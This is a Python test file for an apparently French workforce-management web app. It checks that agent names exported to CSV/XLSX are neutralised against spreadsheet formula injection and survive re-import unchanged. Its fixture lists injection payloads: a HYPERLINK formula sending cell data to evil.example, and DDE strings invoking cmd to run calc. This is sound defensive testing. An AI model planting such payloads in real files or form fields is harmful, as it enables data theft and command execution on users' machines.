"""Formula injection through the downloaded files: names typed by users never run as formulas
in the secretary's spreadsheet, and a downloaded file imported back keeps them intact."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import openpyxl
import pytest
from sqlalchemy import select

from app.core.spreadsheet import xlsx_bytes
from app.referential.models import ContractType
from app.rules.spreadsheet import FORMULA_TRIGGERS
from app.workforce.importing import HEADERS, ImportKind, read_table
from app.workforce.models import Agent, Contract, WorkPosition
from tests.isolation import make_agent
from tests.util import text

HOSTILE_NAMES = {
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")',
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def _cells(content: bytes) -> list[list[str]]:
    """The cells as a spreadsheet receives them from the CSV file."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.fixture
def hostile_contracts(db_ctx: Any, users: Any) -> dict[str, int]:
    """Running contracts in collectivity A whose agent names and position start a formula."""
    with db_ctx() as session:
        position = WorkPosition(collectivity_id=users.collectivity_a.id, pcs_code="372d")
        position.set_label("-Agent d'entretien")
        session.add(position)
        session.flush()
        cdi = session.scalar(select(ContractType).where(ContractType.code == "cdi"))
        ids = {}
        for key, name in HOSTILE_NAMES.items():
            agent = make_agent(
                session, users.collectivity_a, first_name=name, usage_name=f"@{key.upper()}"
            )
            contract = Contract(
                agent_id=agent.id,
                collectivity_id=users.collectivity_a.id,
                work_position_id=position.id,
                contract_type_id=cdi.id,
                start_date=dt.date(2020, 1, 6),
            )
            session.add(contract)
            session.flush()
            ids[key] = contract.id
        return ids


def test_agent_names_starting_a_formula_come_out_neutralised_in_the_exits_template(
    login, users, hostile_contracts
):
    response = login(users.primary_a).get("/imports/modele/exits")
    assert response.status_code == 200
    header, *rows = _cells(response.data)
    assert tuple(header) == HEADERS[ImportKind.exits]
    by_id = {int(row[0]): row for row in rows}
    assert set(by_id) == set(hostile_contracts.values())
    for key, name in HOSTILE_NAMES.items():
        row = by_id[hostile_contracts[key]]
        assert row[3] == "'" + name, f"{key}: {row[3]!r}"
        assert row[5] == f"'@{key.upper()}"
        assert row[8].startswith("'-")
    for row in rows:
        for cell in row:
            assert cell[:1] not in FORMULA_TRIGGERS, f"formula left in the template: {cell!r}"


def test_a_downloaded_template_reads_back_the_names_without_the_protective_quote(
    login, users, hostile_contracts
):
    content = login(users.primary_a).get("/imports/modele/exits").data
    header, *rows = read_table(content, "fins_de_contrats.csv")
    names = {int(row[0]): row[3] for row in rows}
    for key, name in HOSTILE_NAMES.items():
        assert names[hostile_contracts[key]] == name.strip()
    # The same rows saved as XLSX read back the same (an export opened then saved by Excel).
    xlsx_rows = read_table(xlsx_bytes(header, rows), "fins_de_contrats.xlsx")
    assert [line[: len(header)] for line in xlsx_rows] == [header, *rows]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(header, rows))).worksheets[0]
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)


def test_the_neutralised_template_with_an_exit_date_imports_and_closes_the_contract(
    login, users, db_ctx, hostile_contracts
):
    web = login(users.primary_a)
    content = web.get("/imports/modele/exits").data
    # Filled in a text editor: the protective quotes stay in the file that comes back.
    lines = content.decode("utf-8-sig").split("\r\n")
    target = hostile_contracts["hyperlink"]
    lines = [line + "30/06/2026" if line.startswith(f"{target};") else line for line in lines]
    token = web.csrf_token("/imports/")
    response = web.post(
        "/imports/exits",
        data={
            "csrf_token": token,
            "file": (io.BytesIO("\r\n".join(lines).encode("utf-8-sig")), "fins.csv"),
        },
        content_type="multipart/form-data",
    )
    assert "Import réussi : 1 date(s) de sortie enregistrée(s)." in text(response)
    with db_ctx() as session:
        assert session.get(Contract, target).end_date == dt.date(2026, 6, 30)
        agent = session.get(Contract, target).agent
        assert agent.first_name == HOSTILE_NAMES["hyperlink"], "the import renamed nobody"


def test_an_agents_file_with_a_neutralised_name_stores_the_name_without_the_quote(
    login, users, db_ctx
):
    with db_ctx() as session:
        position = WorkPosition(collectivity_id=users.collectivity_a.id, pcs_code="372d")
        position.set_label("Agent d'entretien")
        session.add(position)
    line = [
        "Madame",
        "'+Hélène",
        "'=DURAND",
        "",
        "05/05/1980",
        "",
        "01/09/2020",
        "",
        "372d",
        "Agent d'entretien",
        "CDI",
    ]
    body = "\r\n".join(";".join(cells) for cells in (HEADERS[ImportKind.agents], line))
    web = login(users.primary_a)
    token = web.csrf_token("/imports/")
    response = web.post(
        "/imports/agents",
        data={"csrf_token": token, "file": (io.BytesIO(body.encode("utf-8-sig")), "a.csv")},
        content_type="multipart/form-data",
    )
    assert "Import réussi : 1 agent(s) créé(s) avec leur contrat." in text(response)
    with db_ctx() as session:
        agent = session.scalar(
            select(Agent).where(Agent.collectivity_id == users.collectivity_a.id)
        )
        assert (agent.first_name, agent.birth_name) == ("+Hélène", "=DURAND")
